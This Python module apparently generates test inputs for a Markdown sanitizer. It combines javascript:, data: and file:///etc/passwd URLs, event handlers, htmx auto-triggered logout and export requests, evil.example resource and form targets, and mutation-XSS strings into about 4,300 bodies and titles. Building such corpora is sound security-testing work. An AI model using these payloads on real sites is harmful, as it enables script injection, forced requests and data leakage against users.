"""Bodies and titles that try to run something, put together from parts."""

import itertools
from collections.abc import Iterator

_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "//evil.example/x", "/accounts/logout/",
    "blob:x", "about:blank", "intent://x#Intent;end", "%6Aavascript:alert(1)", "javascript\\:alert(1)",
    "https://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/' onclick='alert(1)",
    "https://evil.example/><img src=x onerror=alert(1)>",
)  # fmt: skip
_TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "form", "input", "button", "video", "audio", "source",
    "details", "body", "html", "link", "meta", "base", "style", "math", "template", "noscript", "textarea",
    "select", "marquee", "a", "div", "p", "table", "td", "frameset", "applet", "isindex", "keygen", "portal",
)  # fmt: skip
_HANDLERS = (
    "onerror=alert(1)", "onload=alert(1)", "ONCLICK=alert(1)", "onfocus=alert(1) autofocus", "ontoggle=alert(1) open",
    "onmouseover='alert(1)'", "onanimationstart=\"alert(1)\" style=\"animation:x\"", "onbegin=alert(1)",
    "data-hx-post=/accounts/logout/ data-hx-trigger=load", "hx-get=/export/ hx-trigger=load",
    "hx-on::load=alert(1)", "src=https://evil.example/x", "href=javascript:alert(1)", "xlink:href=javascript:alert(1)",
    "style=background:url(https://evil.example/)", "action=https://evil.example/", "formaction=javascript:alert(1)",
    "srcdoc='<script>alert(1)</script>'", "srcset=https://evil.example/x", "http-equiv=refresh content=0;url=/x",
    "onpointerrawupdate=alert(1) tabindex=1", "ping=https://evil.example/ href=/",
)  # fmt: skip
_FRAMES = (
    "<{tag} {handler}>", "<{tag}/{handler}>", "<{tag}\n{handler}>x</{tag}>", "text <{tag} {handler}>\n\n**x**</{tag}>",
    "&lt;{tag} {handler}&gt;",
)  # fmt: skip
_LINKS = (
    "[x]({address})", "[x](<{address}>)", "![x]({address})", "<{address}>", "[x][1]\n\n[1]: {address}",
    "[x][1]\n\n[1]: <{address}> 'title'", '[x]({address} "t\\" onmouseover=alert(1) x=\\"")',
    "![\"onerror=alert(1) ]({address})", "[![x]({address})]({address})", "| [x]({address}) |\n|--|\n| <{address}> |",
    "> [x]({address})", "- [x]({address})", "# [x]({address})", "`[x]({address})`<a href=\"{address}\">x</a>",
)  # fmt: skip
_MUTATIONS = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```", "``` \"onmouseover=alert(1)\nx\n```",
    "<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?><script>alert(1)</script>",
    "<a href='x' id=location>", "<textarea></textarea><script>alert(1)</script>", "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<<script>alert(1)</script>", "<script\x0balert(1)>", "</p><script>alert(1)</script>",
    "<svg/onload=alert(1)//", "<img src=x:x onerror=alert(1)//", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
_WRAPS = ("{}", "> {}", "- {}", "*{}*", "a {} b")


def bodies() -> Iterator[str]:
    """4,314 Markdown bodies."""
    for frame, tag, handler in itertools.product(_FRAMES, _TAGS, _HANDLERS):
        yield frame.format(tag=tag, handler=handler)
    for link, address in itertools.product(_LINKS, _ADDRESSES):
        yield link.format(address=address)
    for wrap, mutation in itertools.product(_WRAPS, _MUTATIONS):
        yield wrap.format(mutation)


def titles() -> Iterator[str]:
    """325 one-line texts for titles, names and tags."""
    lines = (body for body in bodies() if "\n" not in body and "\x00" not in body and len(body) < 200)
    return itertools.islice(itertools.islice(lines, 0, None, 8), 325)
